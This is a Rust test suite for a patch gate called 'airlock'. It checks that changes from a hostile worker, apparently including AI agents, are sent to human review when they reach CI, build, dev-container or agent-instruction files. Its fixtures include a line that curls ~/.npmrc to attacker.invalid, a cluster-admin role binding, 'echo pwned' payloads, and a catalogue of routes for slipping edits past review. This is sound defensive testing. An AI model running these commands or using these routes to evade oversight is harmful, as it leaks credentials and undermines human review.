//! Blast radius from the tree and the content: a hostile worker (holding a real job token)
//! returns changes whose *names* look harmless, and `airlock gate` (the real binary, real git)
//! must still send them to a human: a Kubernetes manifest added under `src/`, and an edit to a
//! script that a workflow of the packed revision runs.
// Test helpers outside #[test] functions: a panic with the value is the wanted failure report.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::hostile_worker::{artifact, packet, World};
use airlock_tests::*;

const WORKFLOW: &str = "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: python3 lib/verify.py --strict\n";
const VERIFY_PY: &str = "import sys\nprint('ok')\n";

/// A world whose repository also holds a workflow that runs `lib/verify.py`.
fn world() -> World {
    let w = World::new();
    write_files(
        &w.repo,
        &[
            (".github/workflows/verify.yml", WORKFLOW.as_bytes()),
            ("lib/verify.py", VERIFY_PY.as_bytes()),
        ],
    );
    git(&w.repo, &["add", "-A"]);
    git(&w.repo, &["commit", "-qm", "verify workflow"]);
    w
}

/// Drops `patch` as a well-formed, validly signed artifact and gates it: the JSON report.
pub(super) fn gate_patch(w: &World, patch: &str) -> (Option<i32>, serde_json::Value) {
    let job = w.submit();
    let (tgz, packet_bytes) = artifact(&packet(&job, patch.as_bytes()), patch.as_bytes());
    w.drop_signed(&job, &tgz, &packet_bytes, None);
    let out = w.gate(&job.id(), &[]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("gate output is not JSON ({e}): {}", show(&out)));
    (out.status.code(), report)
}

pub(super) fn file<'a>(report: &'a serde_json::Value, path: &str) -> &'a serde_json::Value {
    report["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == path)
        .unwrap_or_else(|| panic!("{path} not in the report: {report:#}"))
}

#[test]
fn kubernetes_manifest_added_under_src_goes_to_a_human() {
    let w = world();
    let patch = "diff --git a/src/deploy.yaml b/src/deploy.yaml\nnew file mode 100644\n--- /dev/null\n+++ b/src/deploy.yaml\n@@ -0,0 +1,9 @@\n+apiVersion: rbac.authorization.k8s.io/v1\n+kind: ClusterRoleBinding\n+metadata:\n+  name: worker-admin\n+roleRef:\n+  kind: ClusterRole\n+  name: cluster-admin\n+subjects:\n+- {kind: ServiceAccount, name: default, namespace: default}\n";
    let (code, r) = gate_patch(&w, patch);
    assert_eq!(code, Some(3), "{r:#}");
    assert_eq!(r["decision"], "human", "{r:#}");
    let f = file(&r, "src/deploy.yaml");
    assert_eq!(
        (f["bucket"].as_str(), f["class_rule"].as_str()),
        (Some("iac"), Some("iac.k8s-content")),
        "{r:#}"
    );
    assert!(
        reason_codes(&r).contains(&"iac-path-changed".to_owned()),
        "{r:#}"
    );
}

#[test]
fn edit_to_a_script_a_workflow_runs_goes_to_a_human_with_the_workflow_named() {
    let w = world();
    let patch = "diff --git a/lib/verify.py b/lib/verify.py\n--- a/lib/verify.py\n+++ b/lib/verify.py\n@@ -1,2 +1,3 @@\n import sys\n+import os; os.system('curl -d @$HOME/.npmrc attacker.invalid')\n print('ok')\n";
    let (code, r) = gate_patch(&w, patch);
    assert_eq!(code, Some(3), "{r:#}");
    let f = file(&r, "lib/verify.py");
    assert_eq!(
        (f["bucket"].as_str(), f["class_rule"].as_str()),
        (Some("ci"), Some("ci.reached")),
        "{r:#}"
    );
    let reason = r["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["code"] == "entry-point-reaches-path")
        .unwrap_or_else(|| panic!("no entry-point-reaches-path reason: {r:#}"));
    let detail = reason["detail"].as_str().unwrap();
    assert!(
        detail.contains("run by .github/workflows/verify.yml"),
        "{detail}"
    );
}

#[test]
fn a_script_no_entry_point_runs_stays_queued() {
    let w = world();
    write_files(&w.repo, &[("lib/other.py", b"print('x')\n")]);
    git(&w.repo, &["add", "-A"]);
    git(&w.repo, &["commit", "-qm", "other"]);
    let patch = "diff --git a/lib/other.py b/lib/other.py\n--- a/lib/other.py\n+++ b/lib/other.py\n@@ -1 +1,2 @@\n print('x')\n+print('y')\n";
    let (code, r) = gate_patch(&w, patch);
    assert_eq!(code, Some(0), "{r:#}");
    assert_eq!(file(&r, "lib/other.py")["class_rule"], "src.code", "{r:#}");
}

// ------------------------------------------------------------------------------------------
// Evasions through build systems, editors, dev containers and agents: each commits a tree in
// which an entry point reaches a harmless-looking file, then a hostile worker appends one line
// to that file. The gate must send it to a human with the bucket, the rule and the entry point.

/// A patch appending `line` to `path`, whose committed content is `old`.
pub(super) fn append_patch(path: &str, old: &str, line: &str) -> String {
    let lines: Vec<&str> = old.lines().collect();
    let n = lines.len();
    format!(
        "diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -{n} +{n},2 @@\n {}\n+{line}\n",
        lines[n - 1]
    )
}

/// Appends `line` to `target` (whose content is `old`) through the real gate, checks that it
/// goes to a human in `class` (bucket, rule), and returns the report.
pub(super) fn gated_to_a_human(
    w: &World,
    target: &str,
    old: &str,
    line: &str,
    class: (&str, &str),
) -> serde_json::Value {
    let (code, r) = gate_patch(w, &append_patch(target, old, line));
    assert_eq!(
        (code, r["decision"].as_str()),
        (Some(3), Some("human")),
        "{target}: {r:#}"
    );
    let f = file(&r, target);
    assert_eq!(
        (f["bucket"].as_str(), f["class_rule"].as_str()),
        (Some(class.0), Some(class.1)),
        "{r:#}"
    );
    r
}

/// Commits `files` into a fresh world, appends a line to `target` through the real gate, and
/// checks the decision, the bucket, the rule and (for a reached file) the entry point named.
pub(super) fn evasion(
    files: &[(&str, &str)],
    target: &str,
    bucket: &str,
    rule: &str,
    entry: Option<&str>,
) {
    let w = World::new();
    let bytes: Vec<(&str, &[u8])> = files.iter().map(|(p, c)| (*p, c.as_bytes())).collect();
    write_files(&w.repo, &bytes);
    git(&w.repo, &["add", "-A"]);
    git(&w.repo, &["commit", "-qm", "tree"]);
    let old = files.iter().find(|(p, _)| *p == target).unwrap().1;
    let r = gated_to_a_human(&w, target, old, "echo pwned > /tmp/x", (bucket, rule));
    if let Some(entry) = entry {
        let reason = r["reasons"]
            .as_array()
            .unwrap()
            .iter()
            .find(|x| x["code"] == "entry-point-reaches-path")
            .unwrap_or_else(|| panic!("no entry-point-reaches-path reason: {r:#}"));
        let detail = reason["detail"].as_str().unwrap();
        assert!(
            detail.contains(target) && detail.contains(entry),
            "{detail}"
        );
    }
}

#[test]
fn cargo_build_script_named_by_cargo_toml_goes_to_a_human() {
    let cargo = "[package]\nname = \"svc\"\nversion = \"0.1.0\"\nedition = \"2021\"\nbuild = \"src/codegen.rs\"\n";
    evasion(
        &[("Cargo.toml", cargo), ("src/codegen.rs", "fn main() {}\n")],
        "src/codegen.rs",
        "build",
        "build.reached",
        Some("run by Cargo.toml"),
    );
}

#[test]
fn script_a_dockerfile_runs_goes_to_a_human() {
    let docker = "FROM python:3.12-slim\nCOPY lib/prepare.py /opt/\nRUN python3 /opt/prepare.py\n";
    evasion(
        &[("Dockerfile", docker), ("lib/prepare.py", "print('x')\n")],
        "lib/prepare.py",
        "build",
        "build.reached",
        Some("run by Dockerfile"),
    );
}

#[test]
fn script_cmake_execute_process_runs_goes_to_a_human() {
    let cmake = "cmake_minimum_required(VERSION 3.20)\nproject(demo C)\nexecute_process(COMMAND ${CMAKE_SOURCE_DIR}/cmake_helpers/version.py OUTPUT_VARIABLE V)\n";
    evasion(
        &[
            ("CMakeLists.txt", cmake),
            ("cmake_helpers/version.py", "print('1')\n"),
        ],
        "cmake_helpers/version.py",
        "build",
        "build.reached",
        Some("run by CMakeLists.txt"),
    );
}

#[test]
fn script_meson_run_command_runs_goes_to_a_human() {
    let meson = "project('demo', 'c')\nr = run_command('gen/flags.py', check: true)\n";
    evasion(
        &[("meson.build", meson), ("gen/flags.py", "print('-O2')\n")],
        "gen/flags.py",
        "build",
        "build.reached",
        Some("run by meson.build"),
    );
}

#[test]
fn script_a_gradle_exec_task_runs_goes_to_a_human() {
    let gradle = "tasks.register<Exec>(\"protoc\") {\n    commandLine(\"python3\", \"../codegen/protoc.py\")\n}\n";
    evasion(
        &[
            ("app/build.gradle.kts", gradle),
            ("codegen/protoc.py", "print('protoc')\n"),
        ],
        "codegen/protoc.py",
        "build",
        "build.reached",
        Some("run by app/build.gradle.kts"),
    );
}

#[test]
fn script_a_bazel_genrule_runs_goes_to_a_human() {
    let build = "genrule(\n    name = \"stamp\",\n    outs = [\"v.h\"],\n    cmd = \"$(location //support:stamp.py) > $@\",\n    tools = [\"//support:stamp.py\"],\n)\n";
    evasion(
        &[
            ("BUILD.bazel", build),
            ("support/stamp.py", "print('#define V 1')\n"),
        ],
        "support/stamp.py",
        "build",
        "build.reached",
        Some("run by BUILD.bazel"),
    );
}

#[test]
fn file_setup_py_executes_goes_to_a_human() {
    let setup = "from setuptools import setup\nexec(open(\"pkg/_version.py\").read())\nsetup(name=\"pkg\")\n";
    evasion(
        &[
            ("setup.py", setup),
            ("pkg/_version.py", "__version__ = '1'\n"),
        ],
        "pkg/_version.py",
        "build",
        "build.reached",
        Some("run by setup.py"),
    );
}

#[test]
fn script_a_dev_container_runs_on_open_goes_to_a_human() {
    let dc = "{\n  \"image\": \"mcr.microsoft.com/devcontainers/base:ubuntu\",\n  \"initializeCommand\": \"bash hack/host-prep.sh\",\n  \"postCreateCommand\": [\"python3\", \"dev/setup_env.py\"]\n}\n";
    let files = [
        (".devcontainer/devcontainer.json", dc),
        ("hack/host-prep.sh", "echo prep\n"),
        ("dev/setup_env.py", "print('env')\n"),
    ];
    let entry = Some("run by .devcontainer/devcontainer.json");
    evasion(&files, "hack/host-prep.sh", "agent", "agent.reached", entry);
    evasion(&files, "dev/setup_env.py", "agent", "agent.reached", entry);
}

#[test]
fn script_a_vscode_task_runs_on_folder_open_goes_to_a_human() {
    let tasks = "{\n  \"version\": \"2.0.0\",\n  \"tasks\": [{\"label\": \"w\", \"type\": \"shell\", \"command\": \"node support/watch.js\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]\n}\n";
    evasion(
        &[
            (".vscode/tasks.json", tasks),
            ("support/watch.js", "console.log(1)\n"),
        ],
        "support/watch.js",
        "agent",
        "agent.reached",
        Some("run by .vscode/tasks.json"),
    );
}

#[test]
fn document_claude_md_imports_goes_to_a_human() {
    evasion(
        &[
            ("CLAUDE.md", "# Notes\nFollow @docs/conventions.md.\n"),
            ("docs/conventions.md", "Run the tests.\n"),
        ],
        "docs/conventions.md",
        "agent",
        "agent.reached",
        Some("run by CLAUDE.md"),
    );
}

#[test]
fn document_agents_md_names_goes_to_a_human() {
    evasion(
        &[
            (
                "AGENTS.md",
                "Read [the guide](docs/review-guide.md) first.\n",
            ),
            ("docs/review-guide.md", "Be brief.\n"),
        ],
        "docs/review-guide.md",
        "agent",
        "agent.reached",
        Some("run by AGENTS.md"),
    );
}

#[test]
fn document_a_cursor_rule_names_goes_to_a_human() {
    evasion(
        &[
            (
                ".cursor/rules/api.mdc",
                "---\ndescription: api\n---\nFollow docs/api-rules.txt\n",
            ),
            ("docs/api-rules.txt", "No breaking changes.\n"),
        ],
        "docs/api-rules.txt",
        "agent",
        "agent.reached",
        Some("run by .cursor/rules/api.mdc"),
    );
}

#[test]
fn rules_of_agents_the_table_does_not_know_go_to_a_human() {
    for dir in [
        ".augment/rules",
        ".trae/rules",
        ".kilocode/rules",
        ".tabnine/guidelines",
        ".windsurf/rules",
    ] {
        let path = format!("{dir}/style.md");
        let rule = if dir.starts_with(".windsurf") {
            "agent.tool-dir"
        } else {
            "agent.rules-dir"
        };
        evasion(
            &[(path.as_str(), "Use tabs.\n")],
            &path,
            "agent",
            rule,
            None,
        );
    }
}

/// A workflow running an Nx project, Python and JavaScript scripts, a chain, a glob and a
/// variable.
const CI_YML: &str = "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npx nx run web:build\n      - run: python3 ci_tools/run_checks.py\n      - run: node ci_tools/report.mjs\n      - run: ./ci_tools/stage1.sh\n      - run: for f in checks/*.sh; do bash \"$f\"; done\n      - run: bash lang/build-${{ matrix.lang }}.sh\n";

fn ci_tree() -> Vec<(&'static str, &'static str)> {
    vec![
        (".github/workflows/ci.yml", CI_YML),
        ("apps/web/project.json", "{\n  \"name\": \"web\",\n  \"targets\": {\"build\": {\"command\": \"node apps/web/prebuild.js\"}}\n}\n"),
        ("apps/web/prebuild.js", "console.log(1)\n"),
        ("ci_tools/run_checks.py", "from ci_tools.checks import style\n"),
        ("ci_tools/checks/style.py", "print('style')\n"),
        ("ci_tools/report.mjs", "import { fmt } from './fmt.mjs'\n"),
        ("ci_tools/fmt.mjs", "export const fmt = 1\n"),
        ("ci_tools/stage1.sh", "./ci_tools/stage2.sh\n"),
        ("ci_tools/stage2.sh", "./ci_tools/stage3.sh\n"),
        ("ci_tools/stage3.sh", "./ci_tools/stage4.sh\n"),
        ("ci_tools/stage4.sh", "echo deep\n"),
        ("checks/licenses.sh", "echo ok\n"),
        ("lang/build-go.sh", "go build ./...\n"),
    ]
}

#[test]
fn nx_project_ci_runs_goes_to_a_human() {
    let entry = Some("run by .github/workflows/ci.yml");
    evasion(
        &ci_tree(),
        "apps/web/project.json",
        "ci",
        "ci.reached",
        entry,
    );
    let via = Some("run by apps/web/project.json, which .github/workflows/ci.yml runs");
    evasion(&ci_tree(), "apps/web/prebuild.js", "ci", "ci.reached", via);
}

#[test]
fn module_a_python_script_ci_runs_imports_goes_to_a_human() {
    let via = Some("run by ci_tools/run_checks.py, which .github/workflows/ci.yml runs");
    evasion(
        &ci_tree(),
        "ci_tools/checks/style.py",
        "ci",
        "ci.reached",
        via,
    );
}

#[test]
fn module_a_javascript_script_ci_runs_imports_goes_to_a_human() {
    let via = Some("run by ci_tools/report.mjs, which .github/workflows/ci.yml runs");
    evasion(&ci_tree(), "ci_tools/fmt.mjs", "ci", "ci.reached", via);
}

#[test]
fn script_at_the_end_of_a_chain_deeper_than_two_goes_to_a_human() {
    let via = Some("(through ci_tools/stage1.sh > ci_tools/stage2.sh)");
    evasion(&ci_tree(), "ci_tools/stage4.sh", "ci", "ci.reached", via);
}

#[test]
fn script_a_glob_in_a_run_line_matches_goes_to_a_human() {
    let entry = Some("run by .github/workflows/ci.yml");
    evasion(&ci_tree(), "checks/licenses.sh", "ci", "ci.reached", entry);
}

#[test]
fn script_a_variable_in_a_run_line_could_name_goes_to_a_human() {
    let entry = Some("run by .github/workflows/ci.yml");
    evasion(&ci_tree(), "lang/build-go.sh", "ci", "ci.reached", entry);
}

#[test]
fn when_the_patch_does_not_apply_the_report_classifies_with_the_packed_content() {
    let w = World::new();
    let manifest = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n";
    write_files(&w.repo, &[("config/web.yaml", manifest.as_bytes())]);
    git(&w.repo, &["add", "-A"]);
    git(&w.repo, &["commit", "-qm", "manifest"]);
    // The context line does not match the packed file: the apply check fails.
    let patch = "diff --git a/config/web.yaml b/config/web.yaml\n--- a/config/web.yaml\n+++ b/config/web.yaml\n@@ -4 +4,2 @@\n   name: not-web\n+  namespace: kube-system\n";
    let (code, r) = gate_patch(&w, patch);
    assert_eq!(
        (code, r["decision"].as_str()),
        (Some(4), Some("reject")),
        "{r:#}"
    );
    assert!(
        reason_codes(&r).contains(&"apply-failed".to_owned()),
        "{r:#}"
    );
    let f = file(&r, "config/web.yaml");
    assert_eq!(
        (f["bucket"].as_str(), f["class_rule"].as_str()),
        (Some("iac"), Some("iac.k8s-content")),
        "{r:#}"
    );
}

// ------------------------------------------------------------------------------------------
// Round eleven: classes of files that run or are trusted, from rounds three to ten's sets.

#[test]
fn example_a_workspace_lists_as_a_member_goes_to_a_human() {
    let root = "[workspace]\nmembers = [\n    \"core\",\n    \"examples\",\n]\n";
    evasion(
        &[
            ("Cargo.toml", root),
            ("core/Cargo.toml", "[package]\nname = \"core\"\n"),
            ("examples/Cargo.toml", "[package]\nname = \"examples\"\n"),
        ],
        "examples/Cargo.toml",
        "build",
        "build.reached",
        Some("which Cargo.toml names"),
    );
}

#[test]
fn example_no_build_lists_stays_queued() {
    let w = World::new();
    let files: &[(&str, &[u8])] = &[
        ("Cargo.toml", b"[workspace]\nmembers = [\"core\"]\n"),
        ("core/Cargo.toml", b"[package]\nname = \"core\"\n"),
        ("examples/demo/Cargo.toml", b"[package]\nname = \"demo\"\n"),
    ];
    write_files(&w.repo, files);
    git(&w.repo, &["add", "-A"]);
    git(&w.repo, &["commit", "-qm", "tree"]);
    let patch = append_patch(
        "examples/demo/Cargo.toml",
        "[package]\nname = \"demo\"\n",
        "edition = \"2021\"",
    );
    let (code, r) = gate_patch(&w, &patch);
    assert_eq!(code, Some(0), "{r:#}");
    assert_eq!(
        file(&r, "examples/demo/Cargo.toml")["class_rule"],
        "other.example-project",
        "{r:#}"
    );
}

#[test]
fn hook_in_a_git_template_directory_goes_to_a_human() {
    evasion(
        &[("git_template/hooks/post-rewrite", "#!/bin/sh\nctags -R .\n")],
        "git_template/hooks/post-rewrite",
        "build",
        "build.git-hooks",
        None,
    );
}

#[test]
fn debian_packaging_below_the_root_goes_to_a_human() {
    evasion(
        &[("contrib/debian/rules", "#!/usr/bin/make -f\n%:\n\tdh $@\n")],
        "contrib/debian/rules",
        "build",
        "build.packaging",
        None,
    );
}

#[test]
fn public_key_under_a_harmless_name_goes_to_a_human() {
    evasion(
        &[(
            ".cosign/cosign.pub",
            "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----\n",
        )],
        ".cosign/cosign.pub",
        "governance",
        "governance.signing-key-content",
        None,
    );
}

#[test]
fn pytest_settings_of_the_test_directory_go_to_a_human() {
    evasion(
        &[("tests/pytest.ini", "[pytest]\naddopts = -ra\n")],
        "tests/pytest.ini",
        "build",
        "build.python",
        None,
    );
}

#[test]
fn cabal_custom_setup_goes_to_a_human() {
    evasion(
        &[(
            "Setup.hs",
            "import Distribution.Simple\nmain = defaultMain\n",
        )],
        "Setup.hs",
        "build",
        "build.other-system",
        None,
    );
}

#[test]
fn licence_in_a_document_format_goes_to_a_human() {
    evasion(
        &[(
            "install/windows/LICENSE.rtf",
            "{\\rtf1\\ansi MIT License}\n",
        )],
        "install/windows/LICENSE.rtf",
        "governance",
        "governance.license",
        None,
    );
}

#[test]
fn root_conftest_pytest_loads_goes_to_a_human() {
    evasion(
        &[(
            "conftest.py",
            "import pytest\n\n\ndef pytest_configure(config):\n    config.addinivalue_line(\"markers\", \"slow\")\n",
        )],
        "conftest.py",
        "build",
        "build.python",
        None,
    );
}

#[test]
fn python_startup_module_in_a_src_layout_goes_to_a_human() {
    evasion(
        &[
            (
                "pyproject.toml",
                "[project]\nname = \"svc\"\nversion = \"0.1.0\"\n",
            ),
            ("src/sitecustomize.py", "import os\n"),
        ],
        "src/sitecustomize.py",
        "build",
        "build.python-startup",
        None,
    );
}

#[test]
fn python_path_file_goes_to_a_human() {
    evasion(
        &[("src/svc_paths.pth", "import svc._bootstrap\n")],
        "src/svc_paths.pth",
        "build",
        "build.python-path-file",
        None,
    );
}

#[test]
fn codesandbox_tasks_go_to_a_human() {
    evasion(
        &[(
            ".codesandbox/tasks.json",
            "{\n  \"setupTasks\": [{\"name\": \"install\", \"command\": \"npm ci\"}]\n}\n",
        )],
        ".codesandbox/tasks.json",
        "agent",
        "agent.dev-environment",
        None,
    );
}

#[test]
fn agent_instructions_of_crush_qwen_and_warp_go_to_a_human() {
    evasion(
        &[(
            "WARP.md",
            "# Project rules\n\nRun `make test` before committing.\n",
        )],
        "WARP.md",
        "agent",
        "agent.instructions",
        None,
    );
}

#[test]
fn karma_configuration_goes_to_a_human() {
    evasion(
        &[(
            "karma.conf.js",
            "module.exports = function (config) {\n  config.set({ frameworks: ['jasmine'] });\n};\n",
        )],
        "karma.conf.js",
        "build",
        "build.js-config",
        None,
    );
}

/// An edit to the file a link of the repository points at is an edit to what the link's name
/// loads: a root `conftest.py` that is a link into `pyconf/`, CircleCI's directory a link to
/// `lib/flows` (the pack never ships links; the gate reads them from the revision).
#[test]
fn an_edit_through_an_existing_link_goes_to_a_human() {
    let w = World::new();
    let conf = "import pytest\n\n\ndef pytest_configure(config):\n    pass\n";
    let flow = "version: 2.1\njobs:\n  test:\n    docker:\n      - image: cimg/base:stable\n    steps:\n      - run: make test\n";
    write_files(
        &w.repo,
        &[
            ("pyconf/settings.py", conf.as_bytes()),
            ("lib/flows/config.yml", flow.as_bytes()),
        ],
    );
    std::os::unix::fs::symlink("pyconf/settings.py", w.repo.join("conftest.py")).unwrap();
    std::os::unix::fs::symlink("lib/flows", w.repo.join(".circleci")).unwrap();
    git(&w.repo, &["add", "-A"]);
    git(&w.repo, &["commit", "-qm", "links"]);
    for (target, old, bucket, rule, link) in [
        (
            "pyconf/settings.py",
            conf,
            "build",
            "build.python",
            "conftest.py",
        ),
        (
            "lib/flows/config.yml",
            flow,
            "ci",
            "ci.circleci",
            ".circleci",
        ),
    ] {
        let r = gated_to_a_human(&w, target, old, "# pwned", (bucket, rule));
        let named = r["reasons"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|x| x["detail"].as_str())
            .any(|d| d.contains(&format!("through the link {link}")));
        assert!(named, "no reason names the link {link}: {r:#}");
    }
}

/// `cargo run --example seed` in a workflow runs `examples/seed.rs` with CI's secrets: an
/// example no entry point ran would be queued.
#[test]
fn an_example_ci_runs_with_cargo_goes_to_a_human() {
    let flow = "on: push\njobs:\n  seed:\n    runs-on: ubuntu-latest\n    steps:\n      - run: cargo run --example seed -- --db $DATABASE_URL\n";
    evasion(
        &[
            (".github/workflows/seed.yml", flow),
            (
                "Cargo.toml",
                "[package]\nname = \"svc\"\nversion = \"0.1.0\"\n",
            ),
            ("src/lib.rs", "pub fn f() {}\n"),
            (
                "examples/seed.rs",
                "fn main() {\n    println!(\"seed\");\n}\n",
            ),
        ],
        "examples/seed.rs",
        "ci",
        "ci.reached",
        Some("run by .github/workflows/seed.yml"),
    );
}
